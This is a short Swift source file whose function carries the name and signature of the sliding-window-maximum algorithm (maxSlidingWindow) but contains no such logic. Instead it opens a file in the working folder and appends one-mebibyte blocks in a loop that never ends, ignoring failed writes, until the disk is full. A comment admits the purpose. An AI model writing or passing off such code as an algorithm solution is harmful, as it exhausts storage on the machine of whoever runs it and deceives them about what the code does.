#if canImport(Glibc)
import Glibc
#endif

// Fills the disk: appends a mebibyte at a time to one file in its working
// folder and never stops, ignoring every failed write.
func maxSlidingWindow(nums: [Int], k: Int) -> [Int] {
    let fd = open("lectern-disk-filler.bin", O_WRONLY | O_CREAT | O_APPEND, 0o644)
    let block = [UInt8](repeating: 0x5A, count: 1 << 20)
    var written = 0
    while written >= 0 {
        let n = block.withUnsafeBytes { write(fd, $0.baseAddress!, $0.count) }
        written += max(n, 0)
    }
    return [written]
}
